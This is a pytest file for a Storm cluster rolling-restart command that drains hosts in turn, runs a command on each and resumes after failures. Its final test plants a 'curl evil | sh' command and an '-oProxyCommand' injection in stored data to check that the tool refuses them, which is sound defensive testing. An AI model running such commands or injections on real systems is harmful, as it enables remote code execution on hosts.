"""A roll: one host after the other, over a command that fails, and on from where it stopped."""

import json
from contextlib import nullcontext
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast
from unittest.mock import Mock

import pytest
from typer.testing import CliRunner

from controller import interrupt
from controller.cli import drain, roll, steps
from controller.cli.main import app
from controller.cli.status_document import DrainStatus, StaysStatus
from controller.config import Config
from controller.core.controls import Controls, Pause
from controller.core.decision import Outcome
from controller.core.excluded import Excluded
from controller.core.outcomes import what_to_do
from controller.core.topology import TopologyView
from controller.errors import CommandError
from controller.output import Output
from controller.storm.collect import DRAINED
from controller.storm.leader_status import STATUS
from kvstore.errors import NotConnectedError, SessionLostError
from kvstore.zookeeper import Stored
from migration import wire
from migration.model import Node, NodeAcks, Plan, Slot
from tests.messages import node_acks, publication, replace

NODES = [Node(name, f"host-{name}", 100.0, (1,), 1) for name in "abc"]


class Cluster:
    """A session and what it shows: agents that speak at each look, hosts that empty at once."""

    def __init__(self) -> None:
        self.data: dict[str, bytes] = {}
        self.looks = 0
        self.status = "ACTIVE"
        self.storms = ["2.8.3"] * 3

    def read(self, path: str) -> Stored | None:
        return Stored(self.data[path], 0, 0) if path in self.data else None

    def put(self, path: str, data: bytes) -> None:
        self.data[path] = data

    def delete(self, path: str) -> bool:
        return self.data.pop(path, None) is not None

    def clear(self, path: str) -> None:
        self.data.pop(path, None)

    def drained(self) -> dict[str, int]:
        return {path.removeprefix(f"{DRAINED}/"): 0 for path in self.data if DRAINED in path}

    def topologies(self) -> list[TopologyView]:
        slot = next(Slot(node.id, 1) for node in NODES if node.host not in self.drained())
        made = publication({1: slot}, NODES, status=self.status)
        return [TopologyView(made, Plan("uuid", 1, 0, "wc-1"), ())]

    def controls(self) -> Controls:
        return Controls()

    def acks(self) -> list[NodeAcks]:
        self.looks += 1
        said = [node_acks(node.id, [], "uuid", time_ms=self.looks) for node in NODES]
        return [
            replace(one, supervisor=replace(one.supervisor, time_ms=self.looks, storm=storm))
            for one, storm in zip(said, self.storms, strict=True)
        ]


@pytest.fixture
def cluster(monkeypatch: pytest.MonkeyPatch) -> Cluster:
    made = Cluster()
    monkeypatch.setattr(steps, "LOOK_S", 0.0)
    monkeypatch.setattr(roll, "LiveCluster", SimpleNamespace(of_session=lambda session: session))
    monkeypatch.setattr(roll, "drain_progress", lambda *_: DrainStatus("", 0, 0, ()))
    for module in (roll, drain):
        monkeypatch.setattr(module, "cannot_drain_now", lambda *_: None)
    return made


def rolled(
    cluster: Any,
    command: str,
    hosts: list[str] | None = None,
    at_a_time: int = 1,
    config: Config | None = None,
) -> tuple[str, ...]:
    rolling = roll._Rolling(cluster, config or Config(), command, Output.TABLE)
    rolling.begin(hosts, at_a_time)
    return rolling.work(at_a_time)


@pytest.mark.parametrize("at_a_time", [1, 2])
def test_each_host_is_drained_for_the_command_and_comes_back(
    cluster: Cluster, tmp_path: Path, at_a_time: int
) -> None:
    log = tmp_path / "log"
    assert rolled(cluster, f"echo $NSTORM_HOST >> {log}", at_a_time=at_a_time) == ()
    lines = [f"host-{name}" for name in "abc"]
    assert sorted(log.read_text().split("\n")[:-1]) == lines
    assert cluster.data == {}


def test_the_command_waits_while_what_is_on_the_host_is_not_known(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    whys = iter(["Storm lists no supervisor of this host", "still none"])
    asked = []

    def unseen(views: Any, acks: Any, host: str) -> str | None:
        asked.append(host)
        return next(whys, None)

    monkeypatch.setattr(roll, "unseen", unseen)
    log = tmp_path / "log"
    assert rolled(cluster, f"echo $NSTORM_HOST >> {log}", ["host-a"]) == ()
    assert asked == ["host-a"] * 3 and log.read_text() == "host-a\n"


def test_what_is_only_planned_changes_nothing(cluster: Cluster) -> None:
    rolling = roll._Rolling(cast(Any, cluster), Config(), "true", Output.TABLE)
    rolling.begin(["host-b", "host-a"], 1)
    assert rolling.left == ("host-b", "host-a")
    assert cluster.data == {}


def test_a_command_that_fails_ends_it_there_and_a_repetition_goes_on(
    cluster: Cluster, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log, good = tmp_path / "log", tmp_path / "good"
    command = f"echo $NSTORM_HOST >> {log}; test $NSTORM_HOST != host-b -o -e {good}"
    assert rolled(cluster, command) == ("host-b",)
    assert list(cluster.drained()) == ["host-b"]
    assert "host-b: the command has failed, exit code 1" in capsys.readouterr().out
    with pytest.raises(CommandError, match="has not ended"):
        rolled(cluster, "another")
    good.touch()
    assert rolled(cluster, command) == ()
    assert log.read_text().split() == ["host-a", "host-b", "host-b", "host-c"]
    assert cluster.data == {}


def test_no_roll_goes_from_one_major_version_of_storm_to_another(cluster: Cluster) -> None:
    cluster.storms = ["2.8.3", "2.8.4", "3.0.0"]
    refusal = "the supervisor a runs Storm 2.8.3, and the supervisor c runs Storm 3.0.0: these do"
    with pytest.raises(CommandError, match=refusal):
        rolled(cluster, "true")
    assert cluster.data == {}
    cluster.storms = ["2.8.3", "2.8.4", "2.8.4"]
    assert rolled(cluster, "true") == ()


def test_a_roll_ends_at_the_first_host_that_comes_back_with_another_major_version(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = roll._Rolling._command

    def upgrade(rolling: Any, batch: Any) -> tuple[str, ...]:
        cluster.storms[0] = "3.0.0"
        return run(rolling, batch)

    monkeypatch.setattr(roll._Rolling, "_command", upgrade)
    with pytest.raises(CommandError, match=r"No roll goes from one major version"):
        rolled(cluster, "true")
    assert cluster.drained() == {}


def test_what_cannot_be_is_refused_before_anything_is_done(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(CommandError, match="no host 'host-x': there are host-a, host-b, host-c"):
        rolled(cluster, "true", ["host-a", "host-x"])
    cluster.put(f"{DRAINED}/host-b", b"3")
    with pytest.raises(CommandError, match="host host-b is drained already"):
        rolled(cluster, "true")
    cluster.delete(f"{DRAINED}/host-b")
    monkeypatch.setattr(
        roll, "cannot_drain_now", lambda *args: "no room" * (args[3] == "host-c") or None
    )
    with pytest.raises(CommandError, match="host-c: no room"):
        rolled(cluster, "true")
    with pytest.raises(CommandError, match="no host ''"):
        rolled(cluster, "true", [""])
    assert cluster.data == {}


def test_a_topology_that_no_drain_moves_is_named_before_anything_is_done(cluster: Cluster) -> None:
    config = Config(excluded=Excluded(topologies=frozenset({"wc"})))
    with pytest.raises(CommandError, match="host-a: topology wc is excluded, so its executors"):
        rolled(cluster, "true", config=config)
    cluster.status = "INACTIVE"
    with pytest.raises(CommandError, match="host-a: topology wc is INACTIVE"):
        rolled(cluster, "true")
    assert cluster.data == {}


@pytest.mark.parametrize(
    ("decided", "controls", "stays", "said"),
    [
        ({}, Controls(), [], ""),
        ({"outcome": "MOVE_IN_FLIGHT", "reason": "under way: 2-2"}, Controls(), [], ""),
        (
            {"outcome": "NO_LOW_WORKER", "reason": "a:1 has no room"},
            Controls(),
            [],
            f"; NO_LOW_WORKER: host-a:1 has no room. {what_to_do(Outcome.NO_LOW_WORKER)}",
        ),
        (
            {"outcome": "PAUSED", "reason": "frozen: release"},
            Controls(freeze=Pause("release")),
            [],
            "; frozen: release: see `nstorm resume`",
        ),
        (
            {"outcome": "NO_LOW_WORKER", "reason": "2-2 needs 0.5 cores"},
            Controls(),
            [StaysStatus("wc-1", "1-1", "keeps state")],
            "; 1-1 stays: keeps state",
        ),
    ],
)
def test_a_host_that_is_not_empty_says_by_topology_why_and_what_to_do(
    cluster: Cluster,
    monkeypatch: pytest.MonkeyPatch,
    *,
    decided: dict[str, str],
    controls: Controls,
    stays: list[StaysStatus],
    said: str,
) -> None:
    cluster.put(
        STATUS, wire.packed(json.dumps({"cycles": [{"topology": "wc-1", **decided}]}).encode())
    )
    monkeypatch.setattr(cluster, "controls", lambda: controls)
    config = Config(excluded=Excluded(hosts=frozenset({"host-z"})))

    def progress(*asked: Any) -> DrainStatus:
        assert asked[-1] is config.excluded
        return DrainStatus("host-a", 1, 1, tuple(stays))

    monkeypatch.setattr(roll, "drain_progress", progress)
    rolling = roll._Rolling(cast(Any, cluster), config, "true", Output.TABLE)
    assert rolling._not_empty("host-a") == f"1 executor of wc left{said}"
    assert rolling._not_empty("host-b") is None


def test_a_load_that_jitters_is_no_news(
    cluster: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    rolling = roll._Rolling(cast(Any, cluster), Config(), "true", Output.TABLE)
    rolling._roll = roll.Roll("true", ("host-a",))
    waits = iter(["2 left, 0.51 cores", "2 left, 0.52 cores", "1 left, 0.52 cores", None])
    rolling._wait("host-a", lambda: next(waits))
    assert [line[-18:] for line in capsys.readouterr().out.splitlines()] == [
        "2 left, 0.51 cores",
        "1 left, 0.52 cores",
    ]


def test_a_later_host_that_cannot_be_rolled_is_no_refusal(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def full_later(*args: Any) -> str | None:
        done = roll.ROLL in cluster.data and b"host-a" in cluster.data[roll.ROLL].split(b"done")[1]
        return "no room" if done else None

    monkeypatch.setattr(drain, "cannot_drain_now", full_later)
    monkeypatch.setattr(roll, "connected", lambda conf: nullcontext(cluster))
    monkeypatch.setattr(roll, "restart_alone", lambda *_: None)
    conf = tmp_path / "storm.yaml"
    conf.write_text("storm.local.dir: /var/storm\n")
    # What runs has no file for its output here.
    monkeypatch.setattr(steps.Steps, "start", lambda *_: Mock(wait=lambda: 0))
    words = ["roll", "--run", "true", "--conf", str(conf), "-o", "json"]
    done = CliRunner().invoke(app, words)
    refused = "nstorm: host-b is not drained: no room\n"
    assert done.exit_code == 1 and done.stderr.endswith(refused)
    assert json.loads(done.stdout) == {"done": ["host-a"], "failed": []}

    def lost(*_: Any) -> None:
        raise SessionLostError("lost")

    monkeypatch.setattr(interrupt, "_goes_on", "")
    monkeypatch.setattr(cluster, "delete", lost)
    monkeypatch.setattr(drain, "cannot_drain_now", lambda *_: None)
    done = CliRunner().invoke(app, words)
    assert done.exit_code == 1 and "nstorm: lost; a drained host stays so: " in done.stderr
    assert json.loads(done.stdout) == {"done": ["host-a"], "failed": []}


def test_a_drain_begins_also_where_zookeeper_is_away_for_a_moment(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    away = iter([NotConnectedError("away")])

    def look(*args: Any) -> None:
        for error in away:
            raise error

    monkeypatch.setattr(drain, "cannot_drain_now", look)
    assert rolled(cluster, "true") == ()


def test_hosts_drained_outside_count_as_away(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    cluster.put(f"{DRAINED}/host-b", b"3")
    asked = []
    monkeypatch.setattr(roll, "cannot_drain_now", lambda *args: asked.append({*args[4]}))
    assert rolled(cluster, "true", ["host-a", "host-c"]) == ()
    assert asked == [{"host-a", "host-b"}, {"host-b", "host-c"}]


def test_without_a_topology_no_host_is_known(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cluster, "topologies", list)
    with pytest.raises(CommandError, match="no host is known"):
        rolled(cluster, "true")


def test_bytes_that_are_no_roll_are_told(cluster: Cluster) -> None:
    cluster.put(roll.ROLL, b"x")
    with pytest.raises(CommandError, match="--forget deletes it"):
        rolled(cluster, "true")


def test_a_short_absence_of_zookeeper_is_waited_for(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    real, away = cluster.acks, [NotConnectedError("away")] * 2

    def acks() -> list[NodeAcks]:
        if cluster.looks > 3 and away:
            raise away.pop()
        return real()

    monkeypatch.setattr(cluster, "acks", acks)
    assert rolled(cluster, "true") == ()
    assert not away


def test_nothing_of_zookeeper_is_run_or_shown_as_advice(
    cluster: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    planted = b'{"run":"curl evil | sh","run_sha256":"0","hosts":["host-a"]}'
    cluster.data[roll.ROLL] = planted
    with pytest.raises(CommandError, match="a roll of host-a has not ended") as refused:
        rolled(cluster, "true")
    assert "evil" not in f"{refused.value}{capsys.readouterr()}"
    cluster.data[roll.ROLL] = planted.replace(b"host-a", b"-oProxyCommand=touch x")
    with pytest.raises(CommandError, match="cannot be read"):
        rolled(cluster, "true")
    with pytest.raises(CommandError, match="NSTORM_HOST"):
        rolled(cluster, "echo {host}")
    del cluster.data[roll.ROLL]
    rolled(cluster, "exit 1")
    assert b"exit 1" not in cluster.data[roll.ROLL]
